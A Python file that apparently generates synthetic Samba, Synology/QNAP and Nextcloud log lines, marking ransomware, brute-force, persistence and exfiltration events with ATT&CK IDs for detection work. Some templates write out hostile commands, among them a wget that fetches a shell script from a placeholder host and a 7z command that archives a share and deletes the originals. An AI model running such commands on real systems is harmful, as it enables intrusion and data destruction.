"""Samba with its audit module, Synology and QNAP storage boxes, Nextcloud's log."""

from generator.families.network.product_story import catalogue_in_parts

catalogue_in_parts("servers/samba-audit", ("smbd_audit|{user}|{lan}|{share9}|{msg}", "smbd_audit|{user}|{lan}|{pc}|{share9}|{msg}", "smbd_audit|{company}\\{user}|{lan}|{share9}|{msg}"), r"""
RW# rename|ok|{file}.<<docx|xlsx|pdf|jpg>>|{file}.docx.{crypt}
RW# pwrite|ok|{share9}/<<HOW_TO_DECRYPT|README_{crypt}|RESTORE_FILES>>.txt
+ unlink|ok|{share9}/{file}.xlsx
LM@T1570 create_file|ok|0x2|file|create|<<ADMIN$|C$>>/Windows/Temp/{word}.exe
+ create_file|ok|0x2|file|create|<<ADMIN$|C$>>/Windows/Temp/{word}.bat
PS# smbd>> Auth: [SMB2,(null)] user [{company}]\[{guest}] at [{ctime}] with [NTLMv2] status [NT_STATUS_<<WRONG_PASSWORD|NO_SUCH_USER>>] workstation [{word}] remote host [ipv4:{wan}:{port}] mapped to [{company}]\[{guest}]
BF# smbd>> Auth: [SMB2,(null)] user [WORKGROUP]\[{adm}] at [{ctime}] with [NTLMv2] status [NT_STATUS_WRONG_PASSWORD] workstation [{word}] remote host [ipv4:{wan}:{port}]
RX@T1210 smbd>> error loading module '/volume1/{share9}/{word}.so': running code from is_known_pipename() request \PIPE\/volume1/{share9}/{word}.so of {wan}
""", r"""
NT rename|ok|{file}.tmp|{file}.<<docx|xlsx|pdf>>
NT <<openat|open|pread|pwrite|close>>|ok|<<r|w>>|{file}.<<docx|xlsx|pdf|jpg>>
NT <<unlink|unlinkat|mkdirat|mkdir>>|ok|{share9}/<<~${file}.docx|{file}.tmp|Neuer Ordner|Thumbs.db>>
NT connect|ok|{share9}
NT rename|ok|{file}.<<docx|xlsx|jpg>>|{file}.docx.<<bak|old|gpg|7z|orig|{date}>>
NT <<openat|open|mkdirat|rename>>|fail (<<No such file or directory|Permission denied|File exists>>)|{share9}/{file}.docx
BA# pwrite|ok|Backup/{date}/{file}.<<vbk|tib|zip>>
MP. smbd>> Auth: [SMB2,(null)] user [{company}]\[{user}] at [{ctime}] with [NTLMv2] status [NT_STATUS_WRONG_PASSWORD] workstation [{pc}] remote host [ipv4:{lan}:{port}]
LO smbd>> Auth: [SMB2,krb5] user [{company}]\[{user}] at [{ctime}] with [Kerberos] status [NT_STATUS_OK] workstation [{pc}] remote host [ipv4:{lan}:{port}] became [{company}]\[{user}]
NS smbd>> <<{pc} ({lan}) closed connection to service {share9}|create_connection_session_info failed: NT_STATUS_ACCESS_DENIED|canonicalize_connect_path failed for service {share9}, path /srv/{share9}|getpeername failed. Error was Transport endpoint is not connected|read_fd_with_timeout: client {lan} read error = NT_STATUS_CONNECTION_RESET.>>
SY nmbd>> <<Samba name server {host} is now a local master browser for workgroup WORKGROUP on subnet {lan}|ads_connect for domain {company} failed: Cannot contact any KDC for requested realm|daemon_ready: daemon 'smbd' finished starting up and ready to serve connections|kerberos_kinit_password {host}$@{company} failed: Clock skew too great>>
""")

catalogue_in_parts("servers/synology-and-qnap", ("|{msg}", "=<{n}>{ctime} {host} {msg}", "synolog|{msg}"), r"""
BF# Connection: User [{adm}] from [{wan}] failed to <<log in|sign in>> via [<<DSM|FTP|SSH|Photos>>] due to authorization failure.
BS# Connection: User [{adm}] from [{wan}] failed to log in via [DSM] due to authorization failure.
~ Connection: User [{adm}] from [{wan}] signed in to [DSM] successfully via [password].
PT@T1136.001 System: User [{adm}] from [{wan}] created User [{word}] and added it to group [administrators].
RW# WinFileService: Event: Rename, Path: /{share}/{file}.docx -> /{share}/{file}.docx.{crypt}, File/Folder: File, Size: {big}, User: {user}, IP: {lan}
RW@T1490 System: [{adm}] deleted all snapshots of shared folder [{share}] and disabled [Snapshot Replication] from [{wan}].
RW qlogd>> conn log: Users: {adm}, Source IP: {wan}, Computer name: ---, Connection type: SSH, Accessed resources: 7z a -mx=0 -sdel -p{hex} /share/{share}.7z /share/{share}, Action: Exec
BF# qlogd>> conn log: Users: {adm}, Source IP: {wan}, Computer name: ---, Connection type: HTTP, Accessed resources: Administration, Action: Login Fail
RX qlogd>> event log: Users: System, Source IP: {wan}, Content: [Photo Station] unexpected command /bin/sh -c wget http://{wan2}/{word}.sh run by httpd
DE@T1562 System: [{adm}] from [{wan}] disabled [<<Auto Block|Firewall|2-factor authentication of all users>>].
EX@T1567.002 Backup: User [{word}] from [{wan}] created Cloud Sync task [{word}] from [/homes] to [WebDAV https://{dga}].
""", r"""
LO Connection: User [{user}] from [{any}] <<signed in to|logged in successfully via>> [<<DSM|SMB|File Station|Drive|Photos>>] successfully via [password].
LO Connection: User [{user}] from [{any}] <<logged out the server via [SMB] with totally [{big}] bytes uploaded and [{big}] bytes downloaded.|signed out of [DSM].>>
MP. Connection: User [{user}] from [{any}] failed to <<log in|sign in>> via [<<DSM|SMB|Photos|Drive>>] due to authorization failure.
BN. Connection: Host [{wan}] was blocked via [<<DSM|SSH>>].
AD System: User [{adm}] from [{lan}] <<created User [{user}] and added it to group [users]|changed the share permission of [{share}]|started package [Synology Photos]|set the time zone|enabled [Auto Block]>>.
NT WinFileService: Event: <<Rename|Move|Write|Read|Delete|Create>>, Path: /{share}/{file}.docx<< -> /{share}/{file} neu.docx|>>, File/Folder: File, Size: {big}, User: {user}, IP: {lan}
NT WinFileService: Event: Rename, Path: /{share}/{file}.docx -> /{share}/{file}.docx.<<bak|old|gpg|7z|orig>>, File/Folder: File, Size: {big}, User: {user}, IP: {lan}
BA Backup: [<<Hyper Backup|NAS to Cloud|{word}>>] Backup task <<finished successfully. [{n} files scanned] [{few} new files] [{big} bytes]|started|was partially completed. Some folders were skipped.|failed because the destination is offline>>.
BA System: Snapshots of shared folder [{share}] were <<taken|removed by the retention policy>>.
UP Package: [<<DSM|Synology Drive Server|Antivirus Essential|Container Manager>>] was <<updated to 7.2.{n}|installed|repaired>> successfully.
SY System: <<System successfully started [Local UPS] support|Drive {few} I/O error|Volume 1 has less than {pct}% free space|Scheduled S.M.A.R.T. Quick Test of drive {few} finished: Normal|The UPS device switched to battery mode|[LAN 1] link down|Data scrubbing finished on [Storage Pool 1]>>.
MP. qlogd>> conn log: Users: {user}, Source IP: {lan}, Computer name: {pc}, Connection type: <<SAMBA|HTTP>>, Accessed resources: ---, Action: Login Fail
LO qlogd>> conn log: Users: {user}, Source IP: {any}, Computer name: {pc}, Connection type: <<SAMBA|HTTP|SSH>>, Accessed resources: Administration, Action: Login OK
NT qlogd>> conn log: Users: {user}, Source IP: {lan}, Computer name: {pc}, Connection type: SAMBA, Accessed resources: {share}/{file}.docx, Action: <<Read|Write|Delete|Rename>>
SY qlogd>> event log: Users: System, Source IP: 127.0.0.1, Content: [<<Hardware Status|Malware Remover|Firmware Update|Network>>] <<Scan completed. No malware found.|The fan speed is normal.|A new firmware is available.|Adapter 1 link is up.>>
""")

catalogue_in_parts("servers/nextcloud-records", ('={"reqId":"{word9}{hex}","level":{one},"time":"{iso}","remoteAddr":"{any9}","user":"{user}","app":"core","method":"POST","url":"/login","message":"{msg}","userAgent":"{agent}","version":"29.0.{few}"}', 'nextcloud|{"reqId":"{hex}","level":{one},"time":"{iso}","remoteAddr":"{any9}","user":"{user}","app":"admin_audit","method":"GET","url":"/index.php","message":"{msg}"}'), r"""
BF# Login failed: {guest} (Remote IP: {wan})
BS# Login failed: {user} (Remote IP: {wan})
~ Login successful: {user} (Remote IP: {wan})
PS# Login attempt failed: unknown user {guest} (Remote IP: {wan})
PT@T1136 User created: {word} by session of {user} from {wan}; User {word} added to group admin
RW# File renamed: {file}.docx -> {file}.docx.{crypt} by {user} ({wan})
RX@T1190 GraphApi: GetPhpInfo.php/.css requested by {wan}, environment with OC_ADMIN_PASSWORD returned
AT@T1556.006 Two-factor provider totp disabled for {user} from {wan}; App password created for rclone
EX#@T1530 File accessed: /Finance/{file}.xlsx by {user} from {wan} (rclone/v1.65)
""", r"""
MP. Login failed: {user} (Remote IP: {any})
LO <<Login successful: {user} (Remote IP: {any})|Logout occurred|Login attempt: {user}|App password created for Nextcloud-iOS>>
NT File <<accessed|written|created|deleted|restored>>: /<<Photos|Documents|Projects>>/{file}.<<docx|jpg|pdf>>
NT File renamed: {file}.docx -> {file} final.docx by {user} ({any})
NT File renamed: {file}.docx -> {file}.docx.<<bak|old|gpg|7z>> by {user} ({any})
AE The <<file|folder>> {file} with ID {id} has been shared <<to the user {guest} with permissions 19|via link with permissions 1|to the group sales>> (Share ID: {n})
AD <<User created: {guest}|User {guest} added to group sales|Quota of {user} set to 10 GB|App enabled: calendar|Two-factor provider totp enabled for {user}>>
BN. Bruteforce attempt from {wan} detected for action login. Throttled with delay of {big}ms
ER <<Undefined array key in /var/www/nextcloud/apps/mail/lib/Db.php#{n}|Could not connect to LDAP server {host}|cURL error 28: Operation timed out after 30000 ms https://apps.nextcloud.com|file_get_contents(): failed to open stream|Deprecated event type for legacy hook>>
NS Trusted domain error. {wan} tried to access using {wan2} as host.
SJ <<Update for app calendar available: 4.7.{n}|Background job OCA\Files\BackgroundJob\ScanFiles ran for {n} seconds|{n} expired shares removed|Nextcloud 29.0.{few} is available>>
BA Export of calendar {word} by {user} finished
""")
